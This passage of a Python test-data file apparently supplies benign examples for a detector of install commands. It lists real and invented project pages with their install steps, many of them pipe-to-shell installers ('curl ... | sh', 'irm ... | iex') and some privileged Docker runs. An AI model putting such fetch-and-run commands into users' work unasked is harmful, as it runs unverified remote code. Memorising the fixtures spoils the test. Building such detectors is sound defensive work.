# (page, command) as the project's README, site or release page gives it. Candidates that any of
# sets 1-15 already held (page, repository, page host or download host) were left out.

OWN_PAGES = [
    (
        "https://hexo.io/docs/",
        "npm install -g hexo-cli",
    ),
    (
        "https://ghost.org/docs/ghost-cli/",
        "npm install ghost-cli@latest -g",
    ),
    (
        "https://docs.strapi.io/cms/quick-start",
        "npx create-strapi@latest my-strapi-project",
    ),
    (
        "https://docs.fastlane.tools/",
        "sudo gem install fastlane",
    ),
    (
        "https://github.com/docker/docker-bench-security",
        "git clone https://github.com/docker/docker-bench-security.git\ncd docker-bench-security\nsudo sh docker-bench-security.sh",
    ),
    (
        "https://github.com/cyrus-and/gdb-dashboard",
        "wget -P ~ https://github.com/cyrus-and/gdb-dashboard/raw/master/.gdbinit",
    ),
    (
        "https://github.com/portainer/portainer",
        "docker run -d -p 8000:8000 -p 9443:9443 --name portainer --restart=always -v /var/run/docker.sock:/var/run/docker.sock -v portainer_data:/data portainer/portainer-ce:lts",
    ),
    (
        "https://github.com/appwrite/appwrite",
        'docker run -it --rm --volume /var/run/docker.sock:/var/run/docker.sock --volume "$(pwd)"/appwrite:/usr/src/code/appwrite:rw --entrypoint="install" appwrite/appwrite:1.6.0',
    ),
    (
        "https://github.com/traefik/traefik",
        "docker run -d -p 8080:8080 -p 80:80 -v /var/run/docker.sock:/var/run/docker.sock traefik:v3.1 --api.insecure=true --providers.docker",
    ),
    (
        "https://github.com/sbstp/kubie",
        "cargo install --locked kubie",
    ),
    (
        "https://github.com/tkellogg/dura",
        "cargo install --git https://github.com/tkellogg/dura",
    ),
    (
        "https://github.com/nicolaka/netshoot",
        "docker run -it --net container:<container_name> nicolaka/netshoot",
    ),
    (
        "https://github.com/lm-sys/FastChat",
        'pip3 install "fschat[model_worker,webui]"',
    ),
    (
        "https://centrifugal.dev/docs/getting-started/installation",
        "curl -sSLf https://centrifugal.dev/install.sh | sh",
    ),
    (
        "https://github.com/rbenv/rbenv",
        "git clone https://github.com/rbenv/rbenv.git ~/.rbenv",
    ),
    (
        "https://tox.wiki/en/latest/installation.html",
        "pipx install tox",
    ),
    (
        "https://docs.wagtail.org/en/stable/getting_started/tutorial.html",
        "pip install wagtail\nwagtail start mysite",
    ),
    (
        "https://docs.scrapy.org/en/latest/intro/install.html",
        "pip install Scrapy",
    ),
    (
        "https://github.com/KDAB/hotspot",
        "flatpak install flathub com.kdab.hotspot",
    ),
    (
        "https://github.com/iovisor/bcc/blob/master/INSTALL.md",
        "sudo apt-get install bpfcc-tools linux-headers-$(uname -r)",
    ),
    (
        "https://github.com/prometheus-operator/kube-prometheus",
        "kubectl apply --server-side -f manifests/setup\nkubectl wait --for condition=Established --all CustomResourceDefinition --namespace=monitoring\nkubectl apply -f manifests/",
    ),
    (
        "https://github.com/openzipkin/zipkin",
        "curl -sSL https://zipkin.io/quickstart.sh | bash -s\njava -jar zipkin.jar",
    ),
    (
        "https://github.com/grafana/pyroscope",
        "docker run -it -p 4040:4040 grafana/pyroscope",
    ),
    (
        "https://github.com/ValveSoftware/Proton",
        "git clone --recurse-submodules https://github.com/ValveSoftware/Proton.git proton",
    ),
    (
        "https://github.com/GloriousEggroll/proton-ge-custom",
        "mkdir ~/.steam/root/compatibilitytools.d\ntar -xf GE-Proton*.tar.gz -C ~/.steam/root/compatibilitytools.d/",
    ),
    (
        "https://github.com/itzg/docker-minecraft-server",
        "docker run -d -it -p 25565:25565 -e EULA=TRUE itzg/minecraft-server",
    ),
    (
        "https://github.com/ankane/pghero",
        "docker run -ti -e DATABASE_URL=postgres://user:password@hostname:5432/dbname -p 8080:8080 ankane/pghero",
    ),
    (
        "https://github.com/ankane/pgsync",
        "gem install pgsync",
    ),
    (
        "https://github.com/ankane/dexter",
        "gem install pgdexter",
    ),
    (
        "https://github.com/ankane/strong_migrations",
        "bundle add strong_migrations\nrails generate strong_migrations:install",
    ),
    (
        "https://github.com/ruby/debug",
        "gem install debug",
    ),
    (
        "https://github.com/tmm1/stackprof",
        "gem 'stackprof'",
    ),
    (
        "https://github.com/rails/solid_queue",
        "bundle add solid_queue\nbin/rails solid_queue:install",
    ),
    (
        "https://github.com/hotwired/turbo-rails",
        "./bin/bundle add turbo-rails\n./bin/rails turbo:install",
    ),
    (
        "https://github.com/basecamp/thruster",
        "bundle add thruster",
    ),
    (
        "https://github.com/mperham/sidekiq",
        "gem install sidekiq",
    ),
    (
        "https://github.com/lpil/wisp",
        "gleam add wisp",
    ),
    (
        "https://github.com/HigherOrderCO/Bend",
        "cargo install hvm\ncargo install bend-lang",
    ),
    (
        "https://github.com/janet-lang/janet",
        "cd somewhere/my/projects/janet\nmake\nmake test\nmake repl\nmake install",
    ),
    (
        "https://github.com/zigtools/zls",
        "git clone https://github.com/zigtools/zls\ncd zls\nzig build -Doptimize=ReleaseSafe",
    ),
    (
        "https://github.com/ocaml/ocaml-lsp",
        "opam install ocaml-lsp-server",
    ),
    (
        "https://github.com/tree-sitter/tree-sitter/blob/master/cli/README.md",
        "cargo install --locked tree-sitter-cli",
    ),
    (
        "https://github.com/eradman/entr",
        "./configure\nmake test\nmake install",
    ),
    (
        "https://github.com/wellle/tmux-complete.vim",
        "Plug 'wellle/tmux-complete.vim'",
    ),
    (
        "https://github.com/christoomey/vim-tmux-navigator",
        "set -g @plugin 'christoomey/vim-tmux-navigator'",
    ),
    (
        "https://github.com/tmux-plugins/tmux-resurrect",
        "set -g @plugin 'tmux-plugins/tmux-resurrect'",
    ),
    (
        "https://github.com/dracula/zsh",
        "git clone https://github.com/dracula/zsh.git",
    ),
    (
        "https://github.com/mhinz/neovim-remote",
        "pip3 install neovim-remote",
    ),
    (
        "https://github.com/neovim/pynvim",
        "python3 -m pip install pynvim",
    ),
    (
        "https://github.com/github/copilot.vim",
        "git clone --depth=1 https://github.com/github/copilot.vim.git ~/.config/nvim/pack/github/start/copilot.vim",
    ),
    (
        "https://github.com/ycm-core/YouCompleteMe",
        "cd ~/.vim/bundle/YouCompleteMe\npython3 install.py --all",
    ),
    (
        "https://github.com/neoclide/coc.nvim",
        "Plug 'neoclide/coc.nvim', {'branch': 'release'}",
    ),
    (
        "https://github.com/dense-analysis/ale",
        "git clone --depth 1 https://github.com/dense-analysis/ale.git ~/.vim/pack/git-plugins/start/ale",
    ),
    (
        "https://github.com/preservim/nerdtree",
        'git clone https://github.com/preservim/nerdtree.git ~/.vim/pack/vendor/start/nerdtree\nvim -u NONE -c "helptags ~/.vim/pack/vendor/start/nerdtree/doc" -c q',
    ),
    (
        "https://github.com/vim-airline/vim-airline",
        "git clone https://github.com/vim-airline/vim-airline ~/.vim/pack/dist/start/vim-airline",
    ),
    (
        "https://github.com/editorconfig/editorconfig-vim",
        "mkdir -p ~/.vim/pack/local/start\ncd ~/.vim/pack/local/start\ngit clone https://github.com/editorconfig/editorconfig-vim.git",
    ),
    (
        "https://github.com/arialdomartini/oh-my-git",
        "git clone https://github.com/arialdomartini/oh-my-git.git ~/.oh-my-git && echo source ~/.oh-my-git/prompt.sh >> ~/.bashrc",
    ),
    (
        "https://github.com/riobard/bash-powerline",
        "curl https://raw.githubusercontent.com/riobard/bash-powerline/master/bash-powerline.sh > ~/.bash-powerline.sh",
    ),
    (
        "https://github.com/b-ryan/powerline-shell",
        "pip install powerline-shell",
    ),
    (
        "https://github.com/justjanne/powerline-go",
        "go install github.com/justjanne/powerline-go@latest",
    ),
    (
        "https://github.com/nojhan/liquidprompt",
        "git clone --branch stable https://github.com/liquidprompt/liquidprompt.git ~/liquidprompt",
    ),
    (
        "https://github.com/scmbreeze/scm_breeze",
        "git clone https://github.com/scmbreeze/scm_breeze.git ~/.scm_breeze\n~/.scm_breeze/install.sh",
    ),
    (
        "https://github.com/wting/autojump",
        "git clone https://github.com/wting/autojump.git\ncd autojump\n./install.py",
    ),
    (
        "https://github.com/hokaccha/nodebrew",
        "curl -L git.io/nodebrew | perl - setup",
    ),
    (
        "https://github.com/asdf-community/asdf-python",
        "asdf plugin add python",
    ),
    (
        "https://github.com/houseabsolute/ubi",
        "curl --silent --location https://raw.githubusercontent.com/houseabsolute/ubi/master/bootstrap/bootstrap-ubi.sh | sh",
    ),
    (
        "https://github.com/documenso/documenso",
        "git clone https://github.com/documenso/documenso.git",
    ),
]
WINDOWS_OWN = ("winget ", "choco ", "Add-AppxPackage")
for page, command in OWN_PAGES:
    ok(OWN, PS if command.startswith(WINDOWS_OWN) else TERM, page, command)

# --- Installers quoted in OTHER projects' pages (the page says: first install X) ----------------

RUSTUP = "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"
UV = "curl -LsSf https://astral.sh/uv/install.sh | sh"
UV_WIN = 'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"'
BUN = "curl -fsSL https://bun.sh/install | bash"
BUN_WIN = 'powershell -c "irm bun.sh/install.ps1 | iex"'
DENO = "curl -fsSL https://deno.land/install.sh | sh"
NVM = "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash"
BREW = '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'
GET_DOCKER = "curl -fsSL https://get.docker.com | sh"
POETRY = "curl -sSL https://install.python-poetry.org | python3 -"
PIXI = "curl -fsSL https://pixi.sh/install.sh | sh"
FOUNDRY = "curl -L https://foundry.paradigm.xyz | bash"
SOLANA = 'sh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"'
SCOOP = "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression"
OLLAMA = "curl -fsSL https://ollama.com/install.sh | sh"
PNPM = "curl -fsSL https://get.pnpm.io/install.sh | sh -"
FNM = "curl -fsSL https://fnm.vercel.app/install | bash"
SDKMAN = 'curl -s "https://get.sdkman.io" | bash'
GHCUP = "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh"
NIX = "sh <(curl -L https://nixos.org/nix/install) --daemon"
K3S = "curl -sfL https://get.k3s.io | sh -"
HELM = "curl https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash"
MISE = "curl https://mise.run | sh"
TAILSCALE = "curl -fsSL https://tailscale.com/install.sh | sh"
DOTNET = "curl -sSL https://dot.net/v1/dotnet-install.sh | bash /dev/stdin --channel 8.0"
ELAN = "curl https://raw.githubusercontent.com/leanprover/elan/master/elan-init.sh -sSf | sh"
OPAM = 'bash -c "sh <(curl -fsSL https://opam.ocaml.org/install.sh)"'
JULIAUP = "curl -fsSL https://install.julialang.org | sh"
FLY = "curl -L https://fly.io/install.sh | sh"
GCLOUD = "curl https://sdk.cloud.google.com | bash"
AZ_DEB = "curl -sL https://aka.ms/InstallAzureCLIDeb | sudo bash"
NODESOURCE = "curl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\nsudo apt-get install -y nodejs"
WINGET_GIT = "winget install --id Git.Git -e --source winget"
JUST = "curl --proto '=https' --tlsv1.2 -sSf https://just.systems/install.sh | bash -s -- --to ~/.local/bin"

THIRD = "installer-third-party"
THIRD_PAGES = [
    (
        "https://github.com/pola-rs/polars/blob/main/CONTRIBUTING.md",
        "# Polars is written in Rust; get the toolchain first",
        RUSTUP,
        "cd py-polars\nmake requirements",
    ),
    (
        "https://github.com/biomejs/biome/blob/main/CONTRIBUTING.md",
        "# Install Rust (rustup) and just",
        RUSTUP,
        "cargo install just\njust install-tools",
    ),
    (
        "https://github.com/swc-project/swc/blob/main/CONTRIBUTING.md",
        "# You need a Rust toolchain",
        RUSTUP,
        "cargo test",
    ),
    (
        "https://github.com/oxc-project/oxc/blob/main/CONTRIBUTING.md",
        "# Rust first, then just",
        RUSTUP,
        "cargo binstall just -y\njust init",
    ),
    (
        "https://github.com/rerun-io/rerun/blob/main/BUILD.md",
        "# Rust and pixi are needed for the build",
        RUSTUP + "\n" + PIXI,
        "pixi run rerun",
    ),
    (
        "https://github.com/meilisearch/meilisearch/blob/main/CONTRIBUTING.md",
        "# Install Rust with rustup",
        RUSTUP,
        "cargo run --release",
    ),
    (
        "https://github.com/qdrant/qdrant/blob/master/docs/DEVELOPMENT.md",
        "# local build needs rustup",
        RUSTUP,
        "rustup component add rustfmt\ncargo build --release --bin qdrant",
    ),
    (
        "https://github.com/alacritty/alacritty/blob/master/INSTALL.md",
        "# Install the Rust compiler with rustup.rs",
        RUSTUP,
        "rustup override set stable\nrustup update stable",
    ),
    (
        "https://github.com/iced-rs/iced/blob/master/CONTRIBUTING.md",
        "# install Rust",
        RUSTUP,
        "cargo run --package tour",
    ),
    (
        "https://github.com/bevyengine/bevy/blob/main/docs/linux_dependencies.md",
        "# rustup, then the system libraries",
        RUSTUP,
        "sudo apt-get install g++ pkg-config libx11-dev libasound2-dev libudev-dev libxkbcommon-x11-0",
    ),
    (
        "https://github.com/servo/servo",
        "# Servo's mach uses uv",
        UV,
        "./mach bootstrap\n./mach build",
    ),
    (
        "https://github.com/pydantic/pydantic/blob/main/docs/contributing.md",
        "# Install uv",
        UV,
        "make install",
    ),
    (
        "https://github.com/fastapi/fastapi/blob/master/docs/en/docs/contributing.md",
        "# create the environment with uv",
        UV,
        "uv venv\nsource .venv/bin/activate\nuv pip install -r requirements.txt",
    ),
    (
        "https://github.com/modelcontextprotocol/python-sdk",
        "# We recommend uv to manage the project",
        UV,
        'uv init mcp-server-demo\ncd mcp-server-demo\nuv add "mcp[cli]"',
    ),
    (
        "https://github.com/crewAIInc/crewAI",
        "# CrewAI uses uv for dependencies",
        UV,
        "uv tool install crewai",
    ),
    (
        "https://github.com/huggingface/smolagents/blob/main/CONTRIBUTING.md",
        "# set up uv",
        UV,
        'uv venv\nuv pip install -e ".[dev]"',
    ),
    (
        "https://github.com/openai/openai-agents-python",
        "# development uses uv",
        UV,
        "make sync\nmake tests",
    ),
    (
        "https://github.com/langchain-ai/langgraph/blob/main/CONTRIBUTING.md",
        "# uv is the package manager here",
        UV,
        "cd libs/langgraph\nuv sync --all-groups",
    ),
    (
        "https://github.com/microsoft/autogen/blob/main/python/README.md",
        "# install uv for the workspace",
        UV,
        "uv sync --all-extras\nsource .venv/bin/activate",
    ),
    (
        "https://github.com/sst/opencode/blob/dev/CONTRIBUTING.md",
        "# requires Bun",
        BUN,
        "bun install\nbun dev",
    ),
    ("https://github.com/midday-ai/midday", "# install Bun", BUN, "bun i\nbun dev"),
    (
        "https://github.com/lumeland/lume",
        "# Lume runs on Deno",
        DENO,
        "deno run -A https://lume.land/init.ts",
    ),
    (
        "https://github.com/mastodon/mastodon/blob/main/docs/DEVELOPMENT.md",
        "# Node via nvm for the asset build",
        NVM,
        "nvm install\ncorepack enable\nyarn install",
    ),
    (
        "https://github.com/TryGhost/Ghost/blob/main/.github/CONTRIBUTING.md",
        "# use nvm to get the supported Node",
        NVM,
        "nvm install 20\nyarn setup",
    ),
    (
        "https://github.com/OpenZeppelin/openzeppelin-contracts/blob/master/CONTRIBUTING.md",
        "# Foundry is used for fuzz tests",
        FOUNDRY,
        "foundryup\nforge test",
    ),
    (
        "https://github.com/Vectorized/solady",
        "# install Foundry",
        FOUNDRY,
        "foundryup\nforge install vectorized/solady",
    ),
    (
        "https://github.com/transmissions11/solmate",
        "# Foundry toolchain",
        FOUNDRY,
        "forge install transmissions11/solmate",
    ),
    (
        "https://github.com/solana-developers/program-examples",
        "# Solana CLI",
        SOLANA,
        "solana --version\nanchor build",
    ),
    (
        "https://github.com/leanprover-community/mathlib4",
        "# Install elan (the Lean version manager)",
        ELAN,
        "lake exe cache get",
    ),
    (
        "https://github.com/jgm/pandoc/blob/main/INSTALL.md",
        "# build from source: GHC and cabal via ghcup",
        GHCUP,
        "cabal update\ncabal install pandoc-cli",
    ),
    (
        "https://github.com/semgrep/semgrep/blob/develop/INSTALL.md",
        "# OCaml toolchain through opam",
        OPAM,
        "opam init\nmake setup\nmake",
    ),
    (
        "https://github.com/SciML/DifferentialEquations.jl",
        "# install Julia with juliaup",
        JULIAUP,
        "julia -e 'using Pkg; Pkg.add(\"DifferentialEquations\")'",
    ),
    (
        "https://github.com/quarkusio/quarkus/blob/main/CONTRIBUTING.md",
        "# JDK 17 via SDKMAN!",
        SDKMAN,
        "sdk install java 17.0.13-tem\n./mvnw -Dquickly",
    ),
    (
        "https://github.com/micronaut-projects/micronaut-core",
        "# SDKMAN! is the easiest way to get the CLI",
        SDKMAN,
        "sdk install micronaut",
    ),
    (
        "https://github.com/AvaloniaUI/Avalonia/blob/master/Documentation/build.md",
        "# .NET SDK with dotnet-install",
        DOTNET,
        "dotnet workload restore\ndotnet build",
    ),
    (
        "https://docs.mailcow.email/getstarted/install/",
        "# Docker via the convenience script",
        "curl -sSL https://get.docker.com/ | CHANNEL=stable sh",
        "systemctl enable --now docker",
    ),
    (
        "https://github.com/discourse/discourse/blob/main/docs/INSTALL-cloud.md",
        "# Install Docker",
        "wget -qO- https://get.docker.com/ | sh",
        "sudo -s\ngit clone https://github.com/discourse/discourse_docker.git /var/discourse",
    ),
    (
        "https://github.com/open-webui/open-webui/blob/main/TROUBLESHOOTING.md",
        "# Ollama on the same host",
        OLLAMA,
        "ollama pull llama3.2",
    ),
    (
        "https://github.com/continuedev/continue/blob/main/docs/docs/guides/ollama-guide.mdx",
        "# install Ollama",
        OLLAMA,
        "ollama run qwen2.5-coder:1.5b",
    ),
    (
        "https://github.com/Mintplex-Labs/anything-llm",
        "# local models via Ollama",
        OLLAMA,
        "ollama serve",
    ),
    (
        "https://github.com/juanfont/headscale/blob/main/docs/usage/connect/linux.md",
        "# install the Tailscale client",
        TAILSCALE,
        "tailscale up --login-server <YOUR_HEADSCALE_URL>",
    ),
    (
        "https://github.com/vuejs/core/blob/main/.github/contributing.md",
        "# pnpm is required",
        PNPM,
        "pnpm i",
    ),
    (
        "https://github.com/GoogleCloudPlatform/python-docs-samples",
        "# install the gcloud CLI",
        GCLOUD,
        "exec -l $SHELL\ngcloud init",
    ),
    (
        "https://github.com/Azure-Samples/azure-search-openai-demo",
        "# Azure CLI for Linux",
        AZ_DEB,
        "az login\nazd up",
    ),
    (
        "https://github.com/neovim/neovim/blob/master/BUILD.md",
        "# Windows: install the build tools with Scoop",
        SCOOP,
        "scoop install cmake ninja",
    ),
    (
        "https://github.com/helix-editor/helix/blob/master/book/src/package-managers.md",
        "# Windows via Scoop",
        SCOOP,
        "scoop install helix",
    ),
    (
        "https://github.com/astral-sh/ruff/blob/main/CONTRIBUTING.md",
        "# Windows contributors: uv via PowerShell",
        UV_WIN,
        "uv tool install pre-commit",
    ),
    (
        "https://github.com/withastro/astro/blob/main/CONTRIBUTING.md",
        "# Windows: install Bun if you want to try the Bun adapter",
        BUN_WIN,
        "pnpm install",
    ),
    (
        "https://github.com/rancher/fleet/blob/main/dev/README.md",
        "# a local k3s for the dev cluster",
        K3S,
        "export KUBECONFIG=/etc/rancher/k3s/k3s.yaml",
    ),
    (
        "https://github.com/argoproj/argo-cd/blob/master/docs/developer-guide/toolchain-guide.md",
        "# Helm 3",
        HELM,
        "make install-tools-local",
    ),
    ("https://github.com/superfly/litefs", "# flyctl", FLY, "fly launch"),
    (
        "https://github.com/NixOS/nixpkgs/blob/master/CONTRIBUTING.md",
        "# multi-user Nix",
        NIX,
        "nix-build -A hello",
    ),
    ("https://github.com/jdx/hk", "# use mise to get the tools", MISE, "mise use hk pkl"),
    (
        "https://github.com/nodejs/node/blob/main/BUILDING.md",
        "# Windows: Git first",
        WINGET_GIT,
        "winget install Python.Python.3.12\n.\\vcbuild",
    ),
    ("https://github.com/emqx/emqx", "# Node for the dashboard, via fnm", FNM, "fnm use 20\nmake"),
    (
        "https://github.com/casey/just/blob/master/README.md#pre-built-binaries",
        "# into ~/.local/bin",
        JUST,
        "just --version",
    ),
]
for page, note, installer, after in THIRD_PAGES:
    ok(
        THIRD,
        PS if installer.startswith(("powershell", "Set-Execution", "winget")) else TERM,
        page,
        f"{note}\n{installer}\n{after}",
    )

# The same installers quoted on team wikis and internal READMEs (reserved names).
INTERNAL = [
    (
        "https://wiki.platform-team.example/onboarding/rust",
        "Step 3 of onboarding: Rust toolchain",
        RUSTUP,
    ),
    (
        "https://wiki.platform-team.example/onboarding/python",
        "Python projects use uv; install it once per laptop",
        UV,
    ),
    (
        "https://wiki.platform-team.example/onboarding/windows",
        "Windows laptops: install uv from PowerShell",
        UV_WIN,
    ),
    (
        "https://wiki.platform-team.example/onboarding/mac",
        "New Mac? Homebrew first, then run the Brewfile",
        BREW + "\nbrew bundle --file=~/src/dotfiles/Brewfile",
    ),
    (
        "https://git.corp.example/web/storefront/-/blob/main/README.md",
        "## Requirements\nNode 20 via nvm:",
        NVM + "\nnvm install 20 && nvm use 20",
    ),
    (
        "https://git.corp.example/web/checkout/-/blob/main/README.md",
        "Install Bun (we use it for tests)",
        BUN + "\nbun test",
    ),
    (
        "https://git.corp.example/tools/edge-fns/-/blob/main/README.md",
        "Deno is required for the edge functions",
        DENO + "\ndeno task dev",
    ),
    (
        "https://git.corp.example/data/etl/-/blob/main/README.md",
        "Poetry manages the environment",
        POETRY + "\npoetry install",
    ),
    (
        "https://git.corp.example/ml/vision/-/blob/main/README.md",
        "The pixi environment pins CUDA",
        PIXI + "\npixi install\npixi run train",
    ),
    (
        "https://git.corp.example/chain/vault/-/blob/main/README.md",
        "Contracts build with Foundry",
        FOUNDRY + "\nfoundryup\nforge build",
    ),
    (
        "https://git.corp.example/infra/lab/-/blob/main/README.md",
        "Lab cluster: single-node k3s",
        K3S + "\nsudo k3s kubectl get nodes",
    ),
    (
        "https://git.corp.example/infra/charts/-/blob/main/README.md",
        "Helm 3 is needed to render the charts",
        HELM + "\nhelm template ./charts/api",
    ),
    (
        "https://git.corp.example/infra/vpn/-/blob/main/README.md",
        "Every build agent joins the tailnet",
        TAILSCALE + "\nsudo tailscale up --authkey $TS_AUTHKEY --ssh",
    ),
    (
        "https://git.corp.example/dotnet/billing/-/blob/main/README.md",
        "CI agents get .NET 8 with the install script",
        DOTNET,
    ),
    (
        "https://git.corp.example/ml/llm-sandbox/-/blob/main/README.md",
        "Run models locally with Ollama",
        OLLAMA + "\nollama pull mistral",
    ),
    (
        "https://git.corp.example/web/admin/-/blob/main/README.md",
        "pnpm standalone install",
        PNPM + "\npnpm install --frozen-lockfile",
    ),
    (
        "https://git.corp.example/jvm/payments/-/blob/main/README.md",
        "JDK via SDKMAN!",
        SDKMAN + "\nsdk env install",
    ),
    (
        "https://git.corp.example/hs/parser/-/blob/main/README.md",
        "GHC via ghcup",
        GHCUP + "\ncabal build all",
    ),
    (
        "https://git.corp.example/nix/devshells/-/blob/main/README.md",
        "Install Nix (multi-user)",
        NIX + "\nnix develop",
    ),
    (
        "https://git.corp.example/tools/dev-env/-/blob/main/README.md",
        "Tool versions come from mise",
        MISE + "\nmise install",
    ),
    (
        "https://git.corp.example/node/api/-/blob/main/README.md",
        "Ubuntu build hosts: Node 22 from NodeSource",
        NODESOURCE,
    ),
    (
        "https://git.corp.example/math/proofs/-/blob/main/README.md",
        "Lean 4 via elan",
        ELAN + "\nlake build",
    ),
    (
        "https://git.corp.example/ocaml/compiler/-/blob/main/README.md",
        "opam for the OCaml switch",
        OPAM + "\nopam switch create . 5.2.0",
    ),
    (
        "https://git.corp.example/sci/sim/-/blob/main/README.md",
        "Julia via juliaup",
        JULIAUP + "\njulia --project -e 'using Pkg; Pkg.instantiate()'",
    ),
    (
        "https://git.corp.example/cloud/deploy/-/blob/main/README.md",
        "flyctl for preview apps",
        FLY + "\nflyctl deploy --remote-only",
    ),
    (
        "https://git.corp.example/gcp/jobs/-/blob/main/README.md",
        "gcloud SDK (interactive installer)",
        GCLOUD,
    ),
    (
        "https://git.corp.example/azure/functions/-/blob/main/README.md",
        "Azure CLI on Debian/Ubuntu agents",
        AZ_DEB,
    ),
    (
        "https://git.corp.example/win/desktop/-/blob/main/README.md",
        "Windows dev boxes: Scoop, then the tools",
        SCOOP + "\nscoop install git nodejs-lts",
    ),
    ("https://git.corp.example/win/desktop/-/blob/main/CONTRIBUTING.md", "Bun on Windows", BUN_WIN),
    (
        "https://git.corp.example/chain/solana-bot/-/blob/main/README.md",
        "Solana CLI (Agave)",
        SOLANA + "\nsolana config set --url devnet",
    ),
    (
        "https://git.corp.example/docker/hosts/-/blob/main/README.md",
        "Fresh VM: Docker Engine from the convenience script",
        GET_DOCKER + "\nsudo usermod -aG docker $USER",
    ),
    (
        "https://git.corp.example/tools/justfiles/-/blob/main/README.md",
        "just is our task runner",
        JUST,
    ),
    (
        "https://docs.student-lab.example/week1",
        "Week 1 setup: install Rust before the first lab",
        RUSTUP + "\nrustc --version",
    ),
    ("https://docs.student-lab.example/week2", "Week 2: Python with uv", UV + "\nuv run hello.py"),
    (
        "https://docs.student-lab.example/week3",
        "Week 3: JavaScript with Node (nvm)",
        NVM + "\nnvm install --lts",
    ),
    ("https://docs.student-lab.example/week4", "Week 4: containers", GET_DOCKER),
    ("https://docs.student-lab.example/week5", "Week 5: Haskell", GHCUP),
    ("https://docs.student-lab.example/week6", "Week 6: smart contracts", FOUNDRY),
    (
        "https://blog.devnotes.example/2027/rust-on-a-new-laptop",
        "The first thing I run on a new machine:",
        RUSTUP + " -s -- -y --profile minimal",
    ),
    (
        "https://blog.devnotes.example/2027/uv-migration",
        "Migrating from pip-tools: first get uv",
        UV + "\nuv pip compile requirements.in -o requirements.txt",
    ),
    (
        "https://blog.devnotes.example/2027/bun-vs-node",
        "Install Bun to follow along",
        BUN + "\nbun --version",
    ),
    (
        "https://blog.devnotes.example/2027/homebrew-on-linux",
        "Homebrew works on Linux too",
        BREW + "\necho 'eval \"$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)\"' >> ~/.bashrc",
    ),
    ("https://blog.devnotes.example/2027/selfhost-llm", "Step 1: Ollama", OLLAMA),
    (
        "https://blog.devnotes.example/2027/k3s-homelab",
        "Single command Kubernetes:",
        K3S + " --disable traefik",
    ),
    (
        "https://blog.devnotes.example/2027/windows-dev-setup",
        "On Windows I start with Scoop:",
        SCOOP,
    ),
    ("https://blog.devnotes.example/2027/nix-flakes", "Install Nix first", NIX),
    (
        "https://forum.homelab-club.example/t/tailscale-subnet-router/812",
        "On the Pi run:",
        TAILSCALE + "\nsudo tailscale up --advertise-routes=192.168.1.0/24",
    ),
    (
        "https://forum.homelab-club.example/t/docker-on-debian/413",
        "Easiest way on a fresh Debian box:",
        GET_DOCKER,
    ),
    (
        "https://forum.homelab-club.example/t/ollama-gpu/977",
        "Installed with the official script:",
        OLLAMA + "\nsystemctl status ollama",
    ),
    (
        "https://stackoverflow.example/questions/71123/how-to-install-rust-offline-friendly",
        "Accepted answer: use rustup, then pin the toolchain",
        RUSTUP + "\nrustup toolchain install 1.82.0",
    ),
    (
        "https://stackoverflow.example/questions/80212/nvm-command-not-found",
        "Install nvm, then reload your shell:",
        NVM + "\nsource ~/.bashrc",
    ),
    (
        "https://stackoverflow.example/questions/88104/poetry-not-found-after-install",
        "Reinstall with the official installer and add ~/.local/bin to PATH:",
        POETRY + '\nexport PATH="$HOME/.local/bin:$PATH"',
    ),
    (
        "https://stackoverflow.example/questions/90377/install-uv-on-windows",
        "Run this in PowerShell:",
        UV_WIN,
    ),
    (
        "https://stackoverflow.example/questions/91540/sdkman-java-21",
        "SDKMAN! handles several JDKs:",
        SDKMAN + "\nsdk install java 21.0.5-tem",
    ),
    (
        "https://stackoverflow.example/questions/93218/helm-install-linux",
        "Use the get-helm-3 script:",
        HELM,
    ),
    (
        "https://stackoverflow.example/questions/95002/deno-install-path",
        "Install Deno and add it to PATH:",
        DENO + '\nexport DENO_INSTALL="$HOME/.deno"',
    ),
    ("https://stackoverflow.example/questions/96650/pixi-vs-conda", "Try pixi:", PIXI),
    (
        "https://stackoverflow.example/questions/97731/dotnet-sdk-ubuntu-script",
        "Use dotnet-install.sh in CI:",
        DOTNET + " --install-dir /opt/dotnet",
    ),
    (
        "https://stackoverflow.example/questions/98820/bun-windows",
        "Bun supports Windows now:",
        BUN_WIN,
    ),
    (
        "https://stackoverflow.example/questions/99003/fnm-vs-nvm",
        "fnm is faster:",
        FNM + "\nfnm install 22",
    ),
    (
        "https://stackoverflow.example/questions/99114/mise-tools",
        "mise replaces asdf:",
        MISE + "\necho 'eval \"$(~/.local/bin/mise activate bash)\"' >> ~/.bashrc",
    ),
    (
        "https://stackoverflow.example/questions/99350/opam-install-ubuntu",
        "opam's install script:",
        OPAM,
    ),
    ("https://stackoverflow.example/questions/99417/julia-install-linux", "Use juliaup:", JULIAUP),
    (
        "https://stackoverflow.example/questions/99620/flyctl-not-found",
        "Install flyctl:",
        FLY + '\nexport FLYCTL_INSTALL="$HOME/.fly"',
    ),
]
for page, note, installer in INTERNAL:
    ok(
        THIRD,
        PS if installer.startswith(("powershell", "Set-Execution", "winget")) else TERM,
        page,
        f"{note}\n{installer}",
    )

# --- Admin and ops one-liners (vendor docs, Q&A pages, runbooks) ---------------------------------

ADMIN = "admin-command"
LEARN = "https://learn.microsoft.com/en-us/"
RUNBOOK = "https://runbooks.ops-team.example/"
ADMIN_TEXTS = [
    (
        LEARN + "windows/package-manager/winget/install",
        "winget install --id Microsoft.VisualStudioCode -e --scope machine",
    ),
    (
        LEARN + "windows/package-manager/winget/upgrade",
        "winget upgrade --all --include-unknown --accept-package-agreements",
    ),
    (
        LEARN + "windows/package-manager/winget/export",
        "winget export -o C:\\Temp\\apps.json --include-versions",
    ),
    (
        LEARN + "powershell/module/microsoft.powershell.utility/get-filehash",
        "Get-FileHash .\\Downloads\\node-v22.11.0-x64.msi -Algorithm SHA256",
    ),
    (
        LEARN + "windows-server/administration/windows-commands/certutil",
